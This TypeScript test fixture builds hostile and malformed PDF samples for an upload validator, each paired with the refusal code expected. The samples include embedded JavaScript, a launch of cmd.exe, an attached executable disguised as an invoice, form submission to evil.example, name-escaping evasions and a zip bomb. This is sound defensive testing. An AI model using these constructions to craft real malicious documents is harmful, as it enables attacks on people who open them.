import { deflateSync } from 'node:zlib';
import { PDFName, PDFString } from 'pdf-lib';
import { pdf } from './document-files.ts';

/** What a file is, its bytes, and the code it is refused with. */
export type Wrong = readonly [
  what: string,
  bytes: Buffer,
  code: 'invalid-file-type' | 'file-unreadable' | 'file-too-large',
];

const text = (words: string) => Buffer.from(words, 'latin1');
const PROGRAM = text('MZ\x90\0 a program');

/** A PDF written by hand around some objects. */
function bare(...objects: readonly (string | Buffer)[]): Buffer {
  const body = [
    '%PDF-1.7\n',
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n',
    ...objects,
    'trailer\n<< /Root 1 0 R /Size 9 >>\nstartxref\n9\n%%EOF\n',
  ];
  return Buffer.concat(body.map((part) => (typeof part === 'string' ? text(part) : part)));
}

function stream(dictionary: string, data: Buffer): Buffer {
  return Buffer.concat([
    text(`7 0 obj\n<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    text('\nendstream\nendobj\n'),
  ]);
}

const bomb = () => deflateSync(Buffer.alloc(300 * 1024 * 1024), { level: 1 });

/** PDFs that act, hide something or unfold to too much. */
export async function wrongPdfs(): Promise<Wrong[]> {
  const scripted = await pdf('x', { useObjectStreams: false }, (document) => {
    document.addJavaScript('start', 'app.alert(1)');
  });
  const packedScript = await pdf('x', { useObjectStreams: true }, (document) => {
    const action = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
    document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
  });
  const carrying = await pdf('x', { useObjectStreams: true }, (document) =>
    document.attach(PROGRAM, 'invoice.exe', { mimeType: 'application/octet-stream' }),
  );
  const form = await pdf('x', { useObjectStreams: true }, (document) => {
    document.catalog.set(PDFName.of('AcroForm'), document.context.obj({ XFA: PDFString.of('x') }));
  });
  const act = (words: string) => bare(`4 0 obj\n<< ${words} >>\nendobj\n`);
  return [
    ['a PDF that runs a script', scripted, 'invalid-file-type'],
    ['a PDF with its script in an object stream', packedScript, 'invalid-file-type'],
    ['a PDF that carries a file', carrying, 'invalid-file-type'],
    ['a PDF with a form of XFA in an object stream', form, 'invalid-file-type'],
    ['a PDF that starts a program', act('/S /Launch /F (cmd.exe)'), 'invalid-file-type'],
    ['a PDF with its script’s name in escapes', act('/S /J#61v#61Script /JS (x)'), 'invalid-file-type'],
    ['a PDF with its action’s name in escapes', act('/S /#4caunch'), 'invalid-file-type'],
    ['a PDF that sends a form', act('/S /SubmitForm /F (http://evil.example)'), 'invalid-file-type'],
    ['a PDF that acts when a page opens', act('/AA << /O 5 0 R >>'), 'invalid-file-type'],
    ['a PDF with a film', act('/Subtype /RichMedia'), 'invalid-file-type'],
    ['a PDF that goes to another file', act('/S /GoToE'), 'invalid-file-type'],
    [
      'a PDF that is locked',
      bare().subarray(0, -1).toString('latin1').replace('/Root', '/Encrypt 8 0 R /Root'),
      'file-unreadable',
    ],
    [
      'a PDF with objects inside a stream',
      bare(stream('/Type /X', text('9 0 obj << /S /URI >> endobj'))),
      'invalid-file-type',
    ],
    [
      'a PDF with a script inside a plain stream',
      bare(stream('', text('<< /S /JavaScript >>'))),
      'invalid-file-type',
    ],
    [
      'a PDF whose object stream is packed twice',
      bare(stream('/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync('x')))),
      'file-unreadable',
    ],
    [
      'a PDF whose object stream is packed another way',
      bare(stream('/Type /ObjStm /Filter /LZWDecode', text('x'))),
      'file-unreadable',
    ],
    [
      'a PDF that says elsewhere what its stream is',
      bare(
        '8 0 obj\n/ObjStm\nendobj\n',
        stream('/Type 8 0 R /Filter /FlateDecode', deflateSync('/S /JavaScript')),
      ),
      'file-unreadable',
    ],
    ['a PDF with a zip bomb', bare(stream('/Filter /FlateDecode', bomb())), 'file-too-large'],
    [
      'a PDF with broken packed data',
      bare(stream('/Filter /FlateDecode', text('no such thing'))),
      'file-unreadable',
    ],
  ].map(([what, bytes, code]) => [what, typeof bytes === 'string' ? text(bytes) : bytes, code] as Wrong);
}
